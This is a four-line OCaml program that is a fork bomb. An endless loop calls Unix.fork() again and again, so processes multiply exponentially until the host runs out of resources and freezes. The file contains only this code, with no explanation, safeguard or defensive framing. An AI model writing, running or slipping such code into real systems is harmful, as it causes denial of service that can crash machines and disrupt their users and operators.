let () =
  while true do
    ignore (Unix.fork ())
  done
